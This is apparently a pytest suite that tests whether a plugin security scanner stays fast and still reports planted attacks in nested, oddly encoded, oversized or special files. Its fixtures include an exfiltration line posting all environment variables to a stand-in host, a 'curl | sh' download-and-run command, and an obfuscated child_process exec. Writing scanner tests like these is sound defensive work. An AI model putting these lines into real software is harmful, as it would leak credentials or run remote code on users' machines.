"""Input that is made to stop, blind or exhaust a scanner: it answers, and says what it left out."""

from __future__ import annotations

import os
import resource
import subprocess
import sys
import time
from pathlib import Path

import pytest
from goobits_scanner import Limits, PluginSecurityScanner, Report

ATTACK = (
    "import os, requests\nrequests.post('https://c.invalid', json=dict(os.environ))\n"
)
JS_ATTACK = "require('child_process').exec(atob('bHM='));\n"


def scan(path: Path, **limits: float) -> Report:
    started = time.process_time()
    scanner = PluginSecurityScanner(limits=Limits(**limits), jobs=1)  # type: ignore[arg-type]
    report = scanner.scan(path)
    assert time.process_time() - started < 60
    return report


def is_said(report: Report, name: str) -> bool:
    """Return whether the file is either named as unscanned or has a finding."""
    return name in report.unscanned or any(
        finding.file == name for finding in report.findings
    )


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.py", "(" * 10_000 + ")" * 10_000 + "\n" + ATTACK),
        ("a.py", ATTACK + "x = " + "[" * 10_000 + "]" * 10_000 + "\n"),
        ("a.py", "x = " + "-" * 10_000 + "1\n" + ATTACK),
        ("a.py", "x = " + "1+" * 10_000 + "1\n" + ATTACK),
        ("a.py", "x = a" + ".b()" * 10_000 + "\n" + ATTACK),
        ("a.js", JS_ATTACK + "(" * 10_000 + ")" * 10_000),
        ("a.js", JS_ATTACK + "x = " + "[" * 10_000 + "]" * 10_000),
        ("a.js", JS_ATTACK + "x = a" + ".b()" * 10_000),
        ("a.ts", JS_ATTACK + "let x: " + "A<" * 10_000 + "B" + ">" * 10_000 + ";"),
        ("a.tsx", JS_ATTACK + "let x = " + "<a>" * 5_000 + "</a>" * 5_000),
        ("a.rs", "fn f() { " + "{" * 10_000 + "}" * 10_000 + " }"),
        ("a.rs", "fn f() { let x = " + "(" * 10_000 + "1" + ")" * 10_000 + "; }"),
        ("package.json", '{"scripts": ' + "[" * 10_000 + "]" * 10_000 + "}"),
        ("pyproject.toml", "a = " + "[" * 10_000 + "]" * 10_000),
    ],
)
def test_nesting_is_answered(tmp_path: Path, name: str, text: str) -> None:
    """Recursion would end the scan, or the process."""
    (tmp_path / name).write_text(text)
    report = scan(tmp_path)
    if not name.endswith(".rs"):
        assert is_said(report, name)


def test_attack_beside_deep_nesting_is_found(tmp_path: Path) -> None:
    """Depth in one place must hide nothing in another."""
    text = "x = " + "[" * 10_000 + "]" * 10_000 + "\n" + ATTACK
    (tmp_path / "a.py").write_text(text)
    report = scan(tmp_path)
    assert any(finding.line == 3 for finding in report.findings)


@pytest.mark.parametrize(
    "data",
    [
        ATTACK.encode() + b"# \xff\xfe\xfa\n",
        ATTACK.encode("utf-16"),
        ATTACK.encode("utf-16-le"),
        b"\xef\xbb\xbf" + ATTACK.encode(),
        b"# coding: latin-1\n" + ATTACK.encode() + b"# \xe9\n",
        b"# coding: utf-7\n" + ATTACK.encode(),
        b"# coding: rot13\n" + ATTACK.encode(),
        ATTACK.encode() + b"\0",
        ATTACK.replace("\n", "\r").encode(),
        ATTACK.replace("\n", "\f\n").encode(),
    ],
)
def test_odd_encoding_hides_nothing(tmp_path: Path, data: bytes) -> None:
    """Bytes that no editor shows as they are must not pass in silence."""
    (tmp_path / "a.py").write_bytes(data)
    assert is_said(scan(tmp_path), "a.py")


def test_attack_in_a_large_path_file_is_found(tmp_path: Path) -> None:
    """Of a `.pth` file only some lines are run; where words lie in it must not be mixed up."""
    lines = "socket/subprocess/eval\n" * 4000
    attack = "import os; os.system('curl http://a.invalid | sh')\n"
    Path(tmp_path, "a.pth").write_text(lines + attack + lines, "utf-8")
    report = PluginSecurityScanner().scan(tmp_path)
    assert not report.unscanned
    assert {finding.line for finding in report.findings} >= {4001}


def test_parser_that_takes_too_long_is_stopped(tmp_path: Path) -> None:
    """A grammar that has to guess can take minutes for a kilobyte."""
    text = "eval(b);" + "<a {...(b ? <c/> : " * 3_000
    (tmp_path / "a.tsx").write_text(text)
    (tmp_path / "b.py").write_text(ATTACK)
    report = scan(tmp_path, parse_seconds=0.01)
    assert "a.tsx" in report.unscanned
    assert any(finding.rule == "not-scanned" for finding in report.findings)


def test_line_of_a_gigabyte_is_answered(tmp_path: Path) -> None:
    """What is too large to read whole is read as far as it may be, and said to be so."""
    path = tmp_path / "a.js"
    path.write_text(JS_ATTACK)
    os.truncate(path, 1 << 30)
    code = (
        "import sys\n"
        "from goobits_scanner import PluginSecurityScanner\n"
        "report = PluginSecurityScanner(jobs=1).scan(sys.argv[1])\n"
        "print(report.unscanned)\n"
        "peak = [line for line in open('/proc/self/status') if line.startswith('VmHWM')]\n"
        "print(peak[0].split()[1])\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path)],
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
    )
    unscanned, kilobytes = done.stdout.splitlines()
    assert "a.js" in unscanned
    assert int(kilobytes) < 160 * 1024


def test_line_of_megabytes_is_answered(tmp_path: Path) -> None:
    """Minified bundles are one line each."""
    call = "a(function(){return b.c(1,2,'x')});"
    (tmp_path / "a.js").write_text(JS_ATTACK.strip() + call * 100_000)
    assert is_said(scan(tmp_path), "a.js")


def test_count_of_files_is_bounded(tmp_path: Path) -> None:
    """A million files take a moment, not the night."""
    for number in range(300):
        (tmp_path / f"f{number}").touch()
    report = scan(tmp_path, files=100)
    assert report.unscanned


@pytest.mark.parametrize("kind", ["fifo", "socket", "device", "cycle", "outside"])
def test_what_is_no_file_is_not_opened(tmp_path: Path, kind: str) -> None:
    """To open a pipe waits forever; to follow a link leaves what was asked for."""
    folder = tmp_path / "package"
    folder.mkdir()
    (folder / "a.py").write_text(ATTACK)
    odd = folder / "odd"
    if kind == "fifo":
        os.mkfifo(odd)
    elif kind == "socket":
        import socket

        with socket.socket(socket.AF_UNIX) as made:
            made.bind(str(odd))
    elif kind == "device":
        if os.geteuid():
            pytest.skip("only root makes devices")
        os.mknod(odd, 0o600 | 0o020000, os.makedev(1, 5))
    elif kind == "cycle":
        odd.symlink_to(folder)
    else:
        odd.symlink_to("/etc/passwd")
    report = scan(folder)
    assert any(finding.file == "a.py" for finding in report.findings)
    assert "odd" in report.unscanned


def test_limits_hold_in_a_small_process(tmp_path: Path) -> None:
    """A worker of a registry has no gigabytes to give."""
    text = "def f(a):\n    return a.b(1, 'text')\n\n\n" * 20_000
    (tmp_path / "a.py").write_text(text + ATTACK)
    code = (
        "import sys\n"
        "from goobits_scanner import PluginSecurityScanner\n"
        "report = PluginSecurityScanner(jobs=1).scan(sys.argv[1])\n"
        "assert report.findings, report\n"
    )

    def bound() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (768 << 20, 768 << 20))

    subprocess.run(
        [sys.executable, "-c", code, str(tmp_path)],
        check=True,
        preexec_fn=bound,
        timeout=120,
    )
